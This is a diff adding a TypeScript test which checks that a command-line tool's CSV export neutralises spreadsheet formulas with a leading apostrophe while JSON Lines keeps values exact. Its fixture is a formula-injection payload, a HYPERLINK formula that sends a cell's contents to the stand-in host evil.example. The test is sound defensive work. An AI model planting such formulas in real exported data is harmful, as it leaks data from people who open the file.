@@ -132,6 +132,25 @@ test('export --format sqlite -o: one database with the seed schema and every row
   validateLogFile(file);
 });
 
+test("CSV (export and sql --csv): text a spreadsheet would run as a formula starts with '; JSON Lines keeps it exact", () => {
+  const f = repo();
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+  const rec = f.cli(['record', '+tool', '--session=@s', '--metadata=-1+1', '--', formula]);
+  assert.is(rec.status, 0, rec.stderr);
+  const csv = parseCsv(f.cli(['export', '--format', 'csv']).stdout).filter((x) => x[0] === 'codex_actions');
+  assert.equal(
+    csv.map((x) => [x[3], x[5], x[6], x[7]]),
+    [["'@s", "'+tool", `'${formula}`, "'-1+1"]],
+  );
+  const sql = parseCsv(f.cli(['sql', 'SELECT session_id, action, statement, metadata, -1 AS n FROM codex_actions', '--csv']).stdout);
+  assert.equal(sql, [
+    ['session_id', 'action', 'statement', 'metadata', 'n'],
+    ["'@s", "'+tool", `'${formula}`, "'-1+1", '-1'],
+  ]);
+  const jsonl = JSON.parse(f.cli(['export']).stdout.split('\n')[0]) as LogEntry;
+  assert.equal([jsonl.session_id, jsonl.action, jsonl.statement, jsonl.metadata], ['@s', '+tool', formula, '-1+1']);
+});
+
 test('export --committed: the committed rows only', () => {
   const lines = ok(['export', '--committed']).stdout.trimEnd().split('\n');
   assert.is(lines.filter((l) => l.includes('"table":"codex_actions"')).length, rows.filter((x) => !x.pending).length);
